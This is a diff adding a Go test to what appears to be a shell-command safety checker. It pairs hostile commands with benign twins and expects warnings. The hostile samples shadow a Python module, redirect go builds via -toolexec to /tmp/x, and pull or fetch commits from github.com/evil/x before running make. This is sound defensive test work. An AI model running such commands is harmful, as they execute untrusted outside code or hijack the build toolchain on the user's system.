@@ -257,3 +257,20 @@ func TestSingleDashOptionWithValueDecidedAtRunTime(t *testing.T) {
 		{name: "a program's value", hostile: "go test -exec=\"$X\" ./...", want: "decided at run time"},
 	})
 }
+
+// Code put in the working tree from elsewhere, then run: a module file
+// python -m or -c finds first in the current directory; GOFLAGS and the
+// like written to go's env file with go env -w; commits fetched from a
+// URL the script names (git pull URL; git fetch URL, then checkout).
+func TestCodeFromElsewhere(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "python -m finds the directory's modules first", hostile: "echo 'import os' > json.py; python3 -m json.tool data.json", want: "python3 runs code from /work/app/json.py",
+			benign: "python3 -m json.tool package.json > /dev/null"},
+		{name: "go env -w", hostile: "go env -w GOFLAGS=-toolexec=/tmp/x; go build ./...", want: "go env -w sets GOFLAGS for every later go command",
+			benign: "go env -w GOPRIVATE=github.com/acme/*; go build ./..."},
+		{name: "git pull URL", hostile: "git pull https://github.com/evil/x main; make", want: "pulled commits from https://github.com/evil/x",
+			benign: "git pull --rebase; make test"},
+		{name: "git fetch URL, then checkout", hostile: "git fetch https://github.com/evil/x main && git checkout FETCH_HEAD && make", want: "fetched from https://github.com/evil/x",
+			benign: "git fetch origin main && git checkout main && make"},
+	})
+}
